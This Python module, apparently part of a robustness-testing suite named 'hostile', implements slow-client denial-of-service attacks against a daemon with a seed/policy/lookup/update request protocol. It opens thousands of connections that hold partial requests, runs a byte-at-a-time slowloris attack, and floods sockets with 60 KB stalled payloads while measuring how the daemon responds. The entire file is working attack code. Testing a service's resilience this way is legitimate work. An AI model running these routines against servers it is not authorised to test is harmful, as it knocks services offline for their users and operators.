"""Slow clients and timing: connections that hold a request half-sent, or
dribble it a byte at a time, so that a daemon serving one client at a time,
or waiting on one, stops serving the others."""

import heapq
import selectors
import time

from hostile.attr0 import (
    Garbage,
    Parser,
    req_delete,
    req_lookup,
    req_policy,
    req_seed,
    req_tktkey,
    req_update,
)
from hostile.clients import gather_handshakes, mb, open_many, watch
from hostile.net import now, try_recv


def atk_stalled(n):
    def fn(ctx):
        socks, fails = open_many(ctx, n)
        hs = gather_handshakes(socks, now() + 2.0)
        templates = [req_seed(32), req_policy(), req_lookup("stalled-id"),
                     req_tktkey(), req_update("stalled-id", b"x" * 64), req_delete("stalled-id")]
        sent_bytes = send_fail = 0
        for i, s in enumerate(socks):
            t = templates[i % len(templates)]
            # a proper prefix of at least 3 bytes: never a complete message,
            # never mistakable for a 2-byte wake-up trigger
            cut = ctx.rng.randint(3, len(t) - 1)
            try:
                sent_bytes += s.send(t[:cut])
            except OSError:
                send_fail += 1
        w = watch(ctx, socks, ctx.deadline)
        did = {"conns": len(socks), "connect_fail": fails, "handshakes": hs["ok"],
               "handshake_missing": hs["missing"] + hs["bad"] + hs["closed"],
               "prefix_bytes": sent_bytes, "send_fail": send_fail,
               "held_s": round(now() - ctx.t0, 1), **w}
        if len(socks) < n:
            ctx.notes.append("only %d/%d connections could be opened" % (len(socks), n))
        return did
    return fn


def _take_replies(c):
    """Reads what the daemon sent on slowloris connection c and counts the
    replies in it; returns try_recv's outcome (data, again, or how it ended)."""
    d, r = try_recv(c["s"])
    if r == "data":
        try:
            c["p"].feed(d)
        except Garbage:
            pass
        while c["p"].pop() is not None:
            c["replies"] += 1
    return r


def atk_slowloris(ctx, k=None, gap=None):
    k = k or ctx.pick(100, 30)
    gap = gap or ctx.pick((0.05, 0.4), (0.02, 0.1))
    socks, fails = open_many(ctx, k)
    hs = gather_handshakes(socks, now() + 1.0)
    reqs = [req_seed(32), req_policy(), req_lookup("slow-id"), req_tktkey()]
    st = []
    heap = []
    sel = selectors.DefaultSelector()
    for i, s in enumerate(socks):
        st.append({"s": s, "req": reqs[i % len(reqs)], "pos": 0, "done": 0,
                   "p": Parser(), "replies": 0, "dead": False})
        heapq.heappush(heap, (now() + ctx.rng.uniform(*gap), i))
        sel.register(s, selectors.EVENT_READ, i)
    dribbled = completed = closed = 0
    try:
        while heap and not ctx.over():
            t, i = heap[0]
            for key, _ in sel.select(timeout=max(0, min(t - now(), ctx.left()))):
                c = st[key.data]
                if _take_replies(c) not in ("data", "again"):
                    c["dead"] = True
                    closed += 1
                    sel.unregister(c["s"])
            if now() < t:
                continue
            heapq.heappop(heap)
            c = st[i]
            if c["dead"]:
                continue
            try:
                c["s"].send(c["req"][c["pos"]:c["pos"] + 1])
                dribbled += 1
                c["pos"] += 1
                if c["pos"] == len(c["req"]):
                    c["pos"] = 0
                    c["done"] += 1
                    completed += 1
                    c["req"] = reqs[(reqs.index(c["req"]) + 1) % len(reqs)]
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                if not c["dead"]:
                    c["dead"] = True
                    closed += 1
                    try:
                        sel.unregister(c["s"])
                    except (KeyError, ValueError):
                        pass
                continue
            heapq.heappush(heap, (now() + ctx.rng.uniform(*gap), i))
        # short tail to collect the last replies
        tail = now() + 0.5
        while now() < tail and sel.get_map() and not ctx.stop.is_set():
            for key, _ in sel.select(timeout=0.1):
                c = st[key.data]
                if _take_replies(c) not in ("data", "again"):
                    sel.unregister(c["s"])
    finally:
        sel.close()
    replies = sum(c["replies"] for c in st)
    if replies < completed - closed:
        ctx.notes.append("%d dribbled requests completed but only %d replies"
                         % (completed, replies))
    return {"conns": len(socks), "connect_fail": fails, "handshakes": hs["ok"],
            "bytes_dribbled": dribbled, "requests_completed": completed,
            "replies": replies, "closed_by_daemon": closed}


def atk_slowloris_mass(ctx):
    return atk_slowloris(ctx, ctx.pick(4500, 2000), (0.5, 1.5))


def atk_fat_stalled(ctx):
    n = ctx.pick(4000, 1000)
    fill = ctx.pick(60000, 60000)
    prefix = ("request\x00update\x00cache_type\x00smtpd\x00cache_id\x00hostile-%s-fat"
              "\x00session\x00" % ctx.runid).encode()
    payload = memoryview(prefix + b"A" * fill)
    socks, fails = open_many(ctx, n, per_timeout=0.3, give_up_after=8)
    hs = gather_handshakes(socks, now() + 1.5)
    off = {s: 0 for s in socks}
    closed = 0
    hold_from = ctx.t0 + (ctx.deadline - ctx.t0) * 0.6
    while off and now() < hold_from and not ctx.stop.is_set():
        progressed = False
        for s in list(off):
            try:
                k = s.send(payload[off[s]:])
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                closed += 1
                del off[s]
                continue
            progressed = True
            off[s] += k
            if off[s] >= len(payload):
                del off[s]
        if not progressed:
            time.sleep(0.02)
    delivered = sum(len(payload) for s in socks) - sum(len(payload) - o for o in off.values())
    w = watch(ctx, socks, ctx.deadline)
    return {"conns": len(socks), "connect_fail": fails, "handshakes": hs["ok"],
            "bytes_each": len(payload),
            "fully_sent": len(socks) - len(off) - closed, "sent_mb": mb(delivered),
            "closed_while_sending": closed, **w}

